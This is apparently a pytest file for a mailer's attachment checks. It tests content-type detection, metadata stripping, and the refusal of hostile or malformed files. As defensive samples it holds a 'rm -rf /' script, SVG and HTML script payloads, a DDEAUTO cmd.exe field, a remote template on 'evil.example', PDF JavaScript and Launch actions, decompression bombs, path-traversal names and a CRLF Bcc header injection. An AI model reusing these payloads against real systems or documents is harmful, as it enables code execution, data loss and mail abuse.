"""Files as they come: what is told of them, what is taken out of them, and which are refused."""

import io
import time
import zipfile
from contextlib import suppress

import pytest
import typst
from hypothesis import given
from hypothesis import strategies as st
from PIL import ExifTags, Image

from mailer.errors import BadInput
from mailer.models import AttachmentKind
from mailer.releases.files.names import LONGEST, clean_name
from mailer.releases.files.preparing import Prepared, prepared, prepared_logo, read_file
from tests.releases.files import samples


def ready(octets: bytes, name: str, **limits: int) -> Prepared:
    return prepared(octets, name=name, limits=samples.limits(**limits))


@pytest.mark.parametrize(
    ("octets", "name", "media_type"),
    [
        (samples.pdf(), "note.pdf", "application/pdf"),
        (samples.picture(), "map.png", "image/png"),
        (samples.picture(kind="JPEG"), "map.JPG", "image/jpeg"),
        (samples.picture(kind="GIF"), "map.gif", "image/gif"),
        (samples.picture(kind="WEBP"), "map.webp", "image/webp"),
        (samples.document(), "note.docx", samples.DOCX),
        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "visit.ics", "text/calendar"),
        ("port;øre\n".encode(), "table.csv", "text/csv"),
        (b"words\n", "words.txt", "text/plain"),
    ],
)
def test_a_file_is_told_by_what_it_holds(octets: bytes, name: str, media_type: str) -> None:
    found = ready(octets, name)

    assert found.whole.media_type == media_type
    is_picture = media_type.startswith("image/")
    assert (found.kind is AttachmentKind.PICTURE) is is_picture


@pytest.mark.parametrize(
    ("octets", "name", "why"),
    [
        (b"MZ\x90\0program", "note.pdf", "a program for Windows"),
        (b"\x7fELF\x02\x01", "note.pdf", "a program for Linux"),
        (b"#!/bin/sh\nrm -rf /\n", "note.txt", "a script"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "note.docx", "an old or an encrypted Office file"),
        (b"<svg onload='alert(1)'/>", "map.png", "a drawing"),
        (b"\xef\xbb\xbf <!doctype html><script>", "words.txt", "a page"),
        (samples.picture(), "map.pdf", r"holds a PNG: let its name end in \.png"),
        (samples.pdf(), "note.pdf.exe", "holds a PDF"),
        (b"", "note.pdf", "is empty"),
        (b"\0\x01\x02", "note.txt", "control characters"),
        (b"\xff\xfeh\0", "note.txt", "no text in UTF-8"),
        (b"@echo off\r\n", "run.bat", "a kind that is not sent"),
        (samples.zipped({"a.txt": "a"}), "all.zip", "an archive"),
        (b"words", "visit.ics", "BEGIN:VCALENDAR"),
        (b"RIFF....WAVE", "sound.wav", "a sound"),
        (b"\0\0\0 ftypheic", "map.jpg", "HEIC"),
    ],
)
def test_what_is_not_sent_is_refused_with_what_to_do(octets: bytes, name: str, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(octets, name)


def test_a_file_that_is_too_large_is_refused() -> None:
    with pytest.raises(BadInput, match=r"larger than 0\.0001 MB"):
        ready(b"a" * 101, "a.txt", largest_bytes=100)


# ------------------------------------------------------------------------- pictures


def test_a_photograph_loses_its_place_its_number_and_its_owner() -> None:
    held = ready(samples.photograph(), "harbour.jpg").whole.held

    for private in (b"SN4711", b"Otto Owner", b"Kamera", b"GPS", b"49,36"):
        assert private not in held
    exif = Image.open(io.BytesIO(held)).getexif()
    assert set(exif) == {ExifTags.Base.Artist, ExifTags.Base.Copyright}


def test_a_photograph_keeps_its_credit_and_its_copyright() -> None:
    found = ready(samples.photograph(), "harbour.jpg")
    again = ready(found.whole.held, "harbour.jpg")

    assert (found.owner.maker, found.owner.credit) == ("Mia Brandt", "Harbour & Sea")
    assert found.owner.rights == "© Harbour Forum"
    assert again.owner == found.owner


def test_a_photograph_stands_upright() -> None:
    turned = Image.open(io.BytesIO(ready(samples.photograph(orientation=6), "a.jpg").whole.held))

    assert turned.size == (20, 40)
    # What was at the left is at the top now.
    assert turned.getpixel((10, 2))[0] > 200  # type: ignore[index]


def test_an_upright_photograph_is_as_fine_as_it_was() -> None:
    before = Image.open(io.BytesIO(samples.photograph()))
    after = Image.open(io.BytesIO(ready(samples.photograph(), "a.jpg").whole.held))

    assert after.quantization == before.quantization  # type: ignore[attr-defined]


def test_texts_in_a_png_are_gone_but_for_its_rights() -> None:
    found = ready(samples.commented_png(), "map.png")

    assert b"Otto Owner" not in found.whole.held
    assert b"Harbour Forum" in found.whole.held


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
def test_what_hides_behind_a_picture_is_gone(kind: str) -> None:
    two_in_one = samples.picture(kind=kind) + samples.zipped({"run.exe": b"MZ"})
    name = {"PNG": "a.png", "JPEG": "a.jpg", "GIF": "a.gif", "WEBP": "a.webp"}[kind]

    assert b"PK\x03\x04" not in ready(two_in_one, name).whole.held


def test_a_large_picture_has_a_small_one_for_messages() -> None:
    found = ready(samples.photograph(width=2400, height=1000), "harbour.jpg")

    assert (found.whole.width, found.whole.height) == (2400, 1000)
    assert found.small is not None
    assert (found.small.width, found.small.height) == (1200, 500)
    assert ready(samples.picture(), "map.png").small is None


@pytest.mark.parametrize(("width", "height"), [(20_000, 20_000), (2**31 - 1, 2**31 - 1)])
def test_a_picture_with_too_many_pixels_is_refused_before_it_is_opened(
    width: int, height: int
) -> None:
    with pytest.raises(BadInput, match="pixels"):
        ready(samples.huge_png(width, height), "bomb.png")


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
def test_a_cut_picture_is_refused(kind: str) -> None:
    whole = samples.picture(400, 200, kind)
    name = {"PNG": "a.png", "JPEG": "a.jpg", "GIF": "a.gif", "WEBP": "a.webp"}[kind]

    with pytest.raises(BadInput, match="is damaged"):
        ready(whole[: len(whole) // 3], name)


def test_a_moving_picture_goes_on_moving() -> None:
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "green", "blue")]
    written = io.BytesIO()
    frames[0].save(
        written, "GIF", save_all=True, append_images=frames[1:], duration=70, comment=b"Otto"
    )

    held = ready(written.getvalue(), "flag.gif").whole.held

    assert getattr(Image.open(io.BytesIO(held)), "n_frames", 1) == 3
    assert b"Otto" not in held


# ------------------------------------------------------------------------- office documents


def test_a_document_loses_its_authors_and_keeps_its_words() -> None:
    held = ready(samples.document(), "note.docx").whole.held

    with zipfile.ZipFile(io.BytesIO(held)) as archive:
        core = archive.read("docProps/core.xml")
        assert archive.read("word/document.xml").decode() == samples.TEXT
    assert b"Anna Keller" not in core
    assert b"<dc:title>Harbours</dc:title>" in core


def test_the_same_document_is_cleaned_to_the_same_octets() -> None:
    first, second = (ready(samples.document(), "note.docx") for _ in range(2))

    assert first.whole.digest == second.whole.digest


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word__vbaProject_dot_bin": b"macro"}, "a macro or a program"),
        ({"word__embeddings__oleObject1_dot_bin": b"x"}, "a macro or a program"),
        ({"word__media__run_dot_exe": b"MZ"}, "a macro or a program"),
        ({"[Content_Types].xml": samples.CONTENT_TYPES.replace("document.main", "macroEnabled")},
         "not what its name says"),
        ({"[Content_Types].xml": "<Types/>"}, "not what its name says"),
        ({"word___rels__settings_dot_xml_dot_rels":
          '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"'
          ' TargetMode="External"/>'}, "fetches something"),
        ({"word__document_dot_xml": '<w:instrText>DDEAUTO c:\\cmd.exe "/k calc"</w:instrText>'},
         "DDE"),
    ],
)  # fmt: skip
def test_a_document_that_does_something_is_refused(parts: dict[str, str], why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(samples.document(**parts), "note.docx")


def test_a_document_that_writes_of_dde_is_no_document_that_does_it() -> None:
    text = samples.TEXT.replace("Harbours", "The DDE programme of twelve harbours")

    assert ready(samples.document(word__document_dot_xml=text), "note.docx").notes == ()


def test_the_print_of_a_release_is_taken() -> None:
    """A real one, with tags, fonts and packed objects; it names the office as its author."""
    printed = typst.compile(
        b'#set document(title: "T", author: "Office")\n= Text\n#link("https://a.example")'
    )

    assert ready(printed, "release.pdf").notes == ("it names its author",)


def test_a_document_with_macros_is_refused_by_its_name_too() -> None:
    with pytest.raises(BadInput, match="with macros"):
        ready(samples.document(), "note.docm")


def test_a_document_with_a_password_is_refused() -> None:
    octets = bytearray(samples.document())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        octets[octets.find(mark) + place] |= 1

    with pytest.raises(BadInput, match="password"):
        ready(bytes(octets), "note.docx")


def test_a_document_that_is_a_bomb_is_refused() -> None:
    bomb = samples.document(word__media__zeros_dot_xml=bytes(250_000_000))

    assert len(bomb) < 1_000_000
    with pytest.raises(BadInput, match="far larger unpacked"):
        ready(bomb, "note.docx")


@pytest.mark.parametrize("around", [(b"%PDF-1.7\n", b""), (b"", b"<script>alert(1)</script>")])
def test_a_document_that_is_two_files_at_once_is_refused(around: tuple[bytes, bytes]) -> None:
    before, behind = around

    with pytest.raises(BadInput):
        ready(before + samples.document() + behind, "note.docx")


def test_a_cut_document_is_refused() -> None:
    with pytest.raises(BadInput, match="damaged"):
        ready(samples.document()[:200], "note.docx")


def test_a_document_with_tracked_changes_and_comments_is_told_of() -> None:
    octets = samples.document(
        word__document_dot_xml='<w:p><w:ins w:author="Anna"><w:r/></w:ins></w:p>',
        word__comments_dot_xml="<w:comments><w:comment>no!</w:comment></w:comments>",
    )

    notes = " ".join(ready(octets, "note.docx").notes)

    assert "tracked changes" in notes
    assert "comments" in notes
    assert not ready(samples.document(), "note.docx").notes


# ------------------------------------------------------------------------- PDF


@pytest.mark.parametrize(
    ("octets", "why"),
    [
        (samples.pdf(b"4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n"), "runs a script"),
        (samples.pdf(b"4 0 obj<</S/J#61vaScript>>endobj\n"), "runs a script"),
        (samples.packed(b"<</S/JavaScript/JS(x)>>"), "runs a script"),
        (samples.pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "starts another program"),
        (samples.trap(samples.pdf(b"4 0 obj<</S/JavaScript>>endobj\n")), "runs a script"),
        (samples.trap(samples.packed(b"<</S/JavaScript/JS(x)>>")), "runs a script"),
        (samples.pdf(b"4 0 obj<</EmbeddedFiles 5 0 R>>endobj\n"), "carries other files"),
        (samples.pdf(b"4 0 obj<</Encrypt 5 0 R>>endobj\n"), "needs a password"),
        (samples.pdf(end=b""), "is cut off"),
        (samples.pdf() + samples.zipped({"a": b"a"}), "behind its end"),
        (samples.pdf(b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nxx\nendstream endobj\n"),
         "cannot be read"),
    ],
)  # fmt: skip
def test_a_pdf_that_does_something_is_refused(octets: bytes, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        ready(octets, "note.pdf")


def test_a_pdf_that_is_a_bomb_is_refused() -> None:
    bomb = samples.packed(bytes(150_000_000))

    assert len(bomb) < 1_000_000
    with pytest.raises(BadInput, match="cannot be read"):
        ready(bomb, "note.pdf")


@pytest.mark.parametrize(
    ("octets", "name"),
    [
        (samples.pdf(b"stream\n" * 2_000_000), "note.pdf"),
        (samples.pdf(b"4 0 obj<</" * 1_000_000), "note.pdf"),
        (samples.document(docProps__custom_dot_xml="<property" * 500_000), "note.docx"),
        (samples.document(docProps__core_dot_xml="<creator" * 500_000), "note.docx"),
        (samples.document(word___rels__a_dot_xml_dot_rels="<a " * 500_000), "note.docx"),
    ],
)
def test_no_file_takes_long_to_look_through(octets: bytes, name: str) -> None:
    began = time.process_time()
    with suppress(BadInput):
        ready(octets, name)
    assert time.process_time() - began < 20


def test_a_pdf_that_names_its_author_is_told_of() -> None:
    named = samples.pdf(b"4 0 obj<</Author(Anna Keller)>>endobj\n")

    assert ready(named, "note.pdf").notes == ("it names its author",)
    assert ready(samples.pdf(b"4 0 obj<</Author()>>endobj\n"), "note.pdf").notes == ()


# ------------------------------------------------------------------------- names and places


@pytest.mark.parametrize(
    "name",
    [
        "../secret.pdf",
        "a/b.pdf",
        "a\\b.pdf",
        ".hidden.pdf",
        "-rf.pdf",
        "con.pdf",
        "LPT1",
        "a\u202egpj.pdf",
        "a\r\nBcc: x.pdf",
        "a\0.pdf",
        "a" * 200 + ".pdf",
        "",
        "a.",
    ],
)
def test_a_name_that_not_every_disk_can_take_is_refused(name: str) -> None:
    with pytest.raises(BadInput):
        clean_name(name)


@given(st.text(max_size=150))
def test_any_name_is_refused_or_harmless(name: str) -> None:
    try:
        clean = clean_name(name)
    except BadInput:
        return
    assert clean == clean_name(clean)
    assert clean.isprintable() or " " in clean or "\u3000" in clean
    assert not set(clean) & set('\\/:*?"<>|\r\n\0')
    assert len(clean) <= LONGEST


@given(st.binary(max_size=300), st.sampled_from(["a.pdf", "a.png", "a.docx", "a.txt", "a.gif"]))
def test_any_octets_are_refused_or_taken_but_never_crash(octets: bytes, name: str) -> None:
    beginnings = {"a.pdf": b"%PDF-", "a.png": b"\x89PNG\r\n\x1a\n", "a.docx": b"PK\x03\x04"}
    with suppress(BadInput):
        ready(beginnings.get(name, b"") + octets, name)


def test_a_link_that_leads_out_of_the_folder_is_refused(tmp_path) -> None:  # type: ignore[no-untyped-def]
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    (tmp_path / "words.txt").symlink_to(secret)

    with pytest.raises(BadInput, match="leads elsewhere"):
        read_file(tmp_path / "words.txt", limits=samples.limits())
    with pytest.raises(BadInput, match="is not there"):
        read_file(tmp_path, limits=samples.limits())


# ------------------------------------------------------------------------- the logo


def test_a_logo_must_be_a_small_picture() -> None:
    assert prepared_logo(samples.picture(), name="logo.png", limits=samples.limits()).whole.width
    with pytest.raises(BadInput, match="larger than 0 kB"):
        prepared_logo(samples.picture(), name="a.png", limits=samples.limits(logo_bytes=20))
    with pytest.raises(BadInput, match="no PNG"):
        prepared_logo(samples.pdf(), name="a.pdf", limits=samples.limits())
